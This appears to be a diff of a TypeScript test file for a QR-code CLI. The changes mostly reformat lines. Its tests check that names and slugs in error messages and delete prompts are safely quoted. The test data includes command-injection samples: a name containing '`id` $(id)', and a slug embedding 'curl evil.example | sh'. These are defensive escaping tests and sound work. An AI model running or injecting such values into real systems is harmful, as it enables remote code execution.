@@ -36,7 +36,10 @@ const VALUES = {
 
 describe('a value in a sentence', () => {
   test('is a plain word, or stands in quotes that it cannot end, on one line, with nothing that a terminal obeys, and short', () => {
-    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...Object.values(VALUES)));
+    const text = fc.oneof(
+      fc.string({ unit: 'binary', maxLength: 200 }),
+      fc.constantFrom(...Object.values(VALUES)),
+    );
     fc.assert(
       fc.property(text, (value) => {
         const quoted = quote(value);
@@ -108,7 +111,9 @@ describe('a word of a line to paste', () => {
 test('the question before a code is deleted proposes no line that a shell would obey', async () => {
   const said: string[] = [];
   const console = { note: (line: string) => said.push(line), ask: async () => '' };
-  const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
+  const service = modelService({
+    listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }),
+  });
   const context = {
     console,
     settings: async () => ({ profile: 'work', keySource: 'profile' }),
@@ -127,7 +132,9 @@ test('the question before a code is deleted proposes no line that a shell would 
 test('a name that several codes have is proposed as one word', async () => {
   const name = '`id` $(id)';
   const several = ['a', 'b'].map((slug) => ({ slug, name }));
-  expect(await noSuchCode(name, several)).toMatchObject({ hint: expect.stringContaining(`qr list --name '${name}'`) });
+  expect(await noSuchCode(name, several)).toMatchObject({
+    hint: expect.stringContaining(`qr list --name '${name}'`),
+  });
 });
 
 /** What each class of sentence says of a value. */
@@ -137,18 +144,24 @@ const SENTENCES: Record<string, (value: string) => unknown> = {
   'the nearest slug': (value) => noSuchCode(value.slice(0, 50), [{ slug: value, name: '' }]),
   'a slug of a file': (slug) => new NotFoundError(describeMissing({ id: undefined, slug })),
   'an id of a file': (id) => thrown(() => refuseAll(inputOf({ id }), 'delete')),
-  'a value of a file': (type) => thrown(() => refuseAll(inputOf({ name: 'a', type: `no ${type}` }), 'create')),
+  'a value of a file': (type) =>
+    thrown(() => refuseAll(inputOf({ name: 'a', type: `no ${type}` }), 'create')),
   'a column of a file': (column) =>
-    thrown(() => refuseAll(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }), 'create')),
+    thrown(() =>
+      refuseAll(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }), 'create'),
+    ),
   'a code that a person must decide about': (slug) => undecided(slug),
   'a value on the service that a row conflicts with': (value) => conflict(value),
   'a field': (field) => thrown(() => chooseColumns([field], [{ name: 'id' }])),
   'a profile': (name) => unknownProfile(name, { profiles: new Map(), current: 'default' }),
   'a time': (text) => thrown(() => parseMoment(text, { flag: '--since', nowMs: 0, timezone: () => 'UTC' })),
   'a time of the length of a file': (text) =>
-    thrown(() => parseMoment(`${'9'.repeat(text.length)} d`, { flag: '--since', nowMs: 0, timezone: () => 'UTC' })),
+    thrown(() =>
+      parseMoment(`${'9'.repeat(text.length)} d`, { flag: '--since', nowMs: 0, timezone: () => 'UTC' }),
+    ),
   'a base URL': (path) => thrown(() => parseBaseUrl(`https://qr.example/v${path}`)),
-  'the host of a base URL': (host) => thrown(() => parseBaseUrl(`http://${host.replace(/\W/g, '')}.example/api/v1`)),
+  'the host of a base URL': (host) =>
+    thrown(() => parseBaseUrl(`http://${host.replace(/\W/g, '')}.example/api/v1`)),
   'the words of an Error body': (error) => answer(400, { error, code: error }),
   'a redirect': (location) => answer(302, undefined, location),
 };
@@ -171,7 +184,12 @@ async function thrown(work: () => unknown): Promise<unknown> {
   throw new Error('it was expected to fail');
 }
 
-const RUN = { verb: 'create', file: { name: 'codes.csv' }, stop: undefined, resultsPath: 'codes.results.csv' } as const;
+const RUN = {
+  verb: 'create',
+  file: { name: 'codes.csv' },
+  stop: undefined,
+  resultsPath: 'codes.results.csv',
+} as const;
 
 function undecided(slug: string) {
   const item = itemOf(2, 'undecided', { key: slug, candidates: [{ ...CODE, slug }] });
@@ -180,7 +198,10 @@ function undecided(slug: string) {
 
 function conflict(value: string) {
   const code = { ...CODE, name: value };
-  const item = itemOf(2, 'conflict', { code, changes: [{ ...change('conflict', value, 'b', value), field: 'name' }] });
+  const item = itemOf(2, 'conflict', {
+    code,
+    changes: [{ ...change('conflict', value, 'b', value), field: 'name' }],
+  });
   return failureOfRun([endOf(item, 'conflict')], RUN);
 }
 
@@ -201,18 +222,23 @@ describe.each(Object.entries(SENTENCES))('%s', (_, say) => {
   });
 });
 
-test.each([1, 2])('the question before %i codes are deleted has their names in quotes that they cannot end', async (count) => {
-  const said: string[] = [];
-  const note = (line: string) => said.push(line);
-  const console = { note, ask: async (line: string) => String(note(line)) };
-  const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
-  const context = {
-    console,
-    settings: async () => ({ profile: 'work', keySource: 'profile' }),
-    service: async () => service,
-  } as unknown as Context;
-  const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
-  await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
-  const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
-  expect(said.join('\n')).toContain(expected);
-});
+test.each([1, 2])(
+  'the question before %i codes are deleted has their names in quotes that they cannot end',
+  async (count) => {
+    const said: string[] = [];
+    const note = (line: string) => said.push(line);
+    const console = { note, ask: async (line: string) => String(note(line)) };
+    const service = modelService({
+      listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }),
+    });
+    const context = {
+      console,
+      settings: async () => ({ profile: 'work', keySource: 'profile' }),
+      service: async () => service,
+    } as unknown as Context;
+    const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
+    await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
+    const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
+    expect(said.join('\n')).toContain(expected);
+  },
+);
